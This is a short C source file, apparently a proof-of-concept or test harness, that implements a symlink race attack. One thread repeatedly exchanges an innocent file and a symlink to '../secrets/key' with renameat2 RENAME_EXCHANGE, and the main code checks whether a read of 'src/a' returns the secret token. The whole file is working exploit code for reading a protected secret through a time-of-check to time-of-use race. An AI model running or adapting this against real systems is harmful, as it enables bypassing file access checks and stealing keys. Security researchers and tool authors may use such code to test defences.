/* A second thread exchanges an innocent file and a symbolic link to the secret. */
#include "attack.h"
static void *swap(void *unused) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, "src/a", AT_FDCWD, "src/b", 2u /* RENAME_EXCHANGE */);
    return unused;
}
static int try_once(void) {
    char data[8] = "";
    int fd = open("src/a", O_RDONLY);
    if (fd < 0) return 0;
    ssize_t got = read(fd, data, 5);
    close(fd);
    return got == 5 && !memcmp(data, "token", 5);
}
int main(int argc, char **argv) {
    pthread_t thread;
    (void)argc;
    close(open("src/a", O_CREAT | O_WRONLY, 0644));
    if (symlink("../secrets/key", "src/b")) return 1;
    pthread_create(&thread, 0, swap, 0);
    return race(argv, try_once);
}
